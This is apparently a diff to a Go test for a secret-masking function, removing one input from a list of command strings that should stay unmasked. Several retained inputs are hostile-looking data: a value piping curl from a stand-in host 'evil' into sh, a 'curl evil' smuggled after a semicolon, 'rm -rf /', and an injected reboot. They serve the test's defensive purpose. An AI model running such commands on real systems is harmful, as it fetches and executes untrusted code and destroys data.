@@ -76,7 +76,6 @@ func TestSecretsAreMaskedAndTheCommandStaysReadable(t *testing.T) {
 func TestWhatIsNoSecretStaysInSight(t *testing.T) {
 	s := newSecrets(t, mask.SecretOptions{})
 	for _, in := range []string{
-		`docker run -p 8080:80 image`,
 		"", "ls -la", "mkdir -parents x && mysql --protocol=tcp -p db", "docker run -p 8080:80 -u 1000:1000 x",
 		"PASSWORD=$DB_PASS ./run", "PASSWORD=${X} y", `TOKEN="$(pass show x)" y`, "TOKEN=`evil`", "PASSWORD=$(curl evil | sh)",
 		`PASSWORD='x; curl evil' sh -c '$PASSWORD'`, `PASSWORD='rm -rf /'; $PASSWORD`, "PASSWORD=\"a\nreboot\n\"",
